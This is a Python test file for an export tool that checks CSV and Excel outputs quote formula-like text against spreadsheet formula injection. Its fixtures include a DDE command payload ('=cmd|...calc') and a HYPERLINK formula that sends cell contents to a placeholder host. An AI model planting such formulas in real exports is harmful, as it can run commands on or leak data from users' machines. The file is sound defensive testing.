"""Exports never carry a live formula: every .xlsx and .csv quotes text a spreadsheet would run (OWASP), keeps the
rest of the text, and leaves numbers as numbers. The crafted texts are the ones the hostile-input probe used."""
import csv
import io

import pandas as pd
from openpyxl import load_workbook

from cli import main
from cli_commands.common import emit
from data_access.queries.export_cells import neutralise
from data_access.ingest.importer import import_bytes
from data_access.ingest.rejects import list_rejects, rejects_csv
from reports.briefing_data import gather
from reports.briefing_xlsx import build_xlsx
from tests import meeting_fixture as fx
from metrics.periods import parse_period
from ui.export import csv_bytes, xlsx_bytes

UNIT = "=cmd|' /C calc'!A0"
CONTENT = '=HYPERLINK("http://x"&A2,"详情")'
CRAFTED = [UNIT, CONTENT, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _formula_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _texts(data: bytes) -> set:
    wb = load_workbook(io.BytesIO(data))
    return {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_the_rule_quotes_what_a_spreadsheet_runs_and_nothing_else():
    assert [neutralise(t) for t in CRAFTED] == ["'" + t for t in CRAFTED]
    assert [neutralise(v) for v in ("东华门街道", "a=b", "-3.5", "+2", -4, 0.5, None)] == [
        "东华门街道", "a=b", "-3.5", "+2", -4, 0.5, None]


def test_a_case_list_export_has_no_formula_and_keeps_the_text_and_numbers():
    frame = pd.DataFrame({"case_no": ["H1", "-H2"], "unit_name": [UNIT, "景山街道"], "content": [CONTENT, "@x"],
                          "adjusted_score": [-1.5, 96.4]})
    columns = list(frame.columns)
    data = xlsx_bytes(frame, columns, "工单")
    assert _formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[2]] == ["H1", "'" + UNIT, "'" + CONTENT, -1.5]
    assert [c.value for c in ws[3]] == ["'-H2", "景山街道", "'@x", 96.4]
    assert ws["D2"].data_type == "n"
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, columns).decode("utf-8-sig"))))
    assert rows[1:] == [["H1", "'" + UNIT, "'" + CONTENT, "-1.5"], ["'-H2", "景山街道", "'@x", "96.4"]]


def test_rejected_rows_on_the_web_and_the_command_line_carry_no_formula(engine, tmp_path, capsys):
    text = ("工单编号,受理时间,承办单位,一级分类,满意度,=1+2\n"
            f"H1,2025-03-01 08:00,\"{UNIT}\",住房,很满意,\"{CONTENT.replace(chr(34), chr(34) * 2)}\"\n")
    result = import_bytes(engine, text.encode(), "evil.csv")
    assert result.rejected == 1
    with engine.connect() as conn:
        web = rejects_csv(list_rejects(conn, result.batch_id))
    rows = list(csv.reader(io.StringIO(web.decode("utf-8-sig"))))
    assert rows[0][-1] == "'=1+2"
    assert rows[1][2:] == ["H1", "2025-03-01 08:00", "'" + UNIT, "住房", "很满意", "'" + CONTENT]
    target = tmp_path / "rejects.csv"
    assert main(["rejects", "--batch", str(result.batch_id), "--out", str(target), "--db",
                 engine.url.render_as_string(hide_password=False)]) == 0
    capsys.readouterr()
    assert target.read_bytes() == web


def test_command_line_csv_quotes_formulas():
    out = io.StringIO()
    emit([{"unit_name": UNIT, "adjusted_score": -2.5}], ["unit_name", "adjusted_score"], "csv", out)
    assert out.getvalue() == f"unit_name,adjusted_score\n'{UNIT},-2.5\n"


def test_the_briefing_workbook_carries_no_formula(sqlite_engine):
    fx.build(sqlite_engine)
    b = gather(sqlite_engine, parse_period("2025-04"), fx.rules(), as_of=fx.AS_OF, with_charts=False)
    b.tables["categories"].frame["cat_l1"] = UNIT
    b.sentences.append(CONTENT)
    data = build_xlsx(b)
    assert _formula_cells(data) == []
    assert {"'" + UNIT, "'" + CONTENT} <= _texts(data)
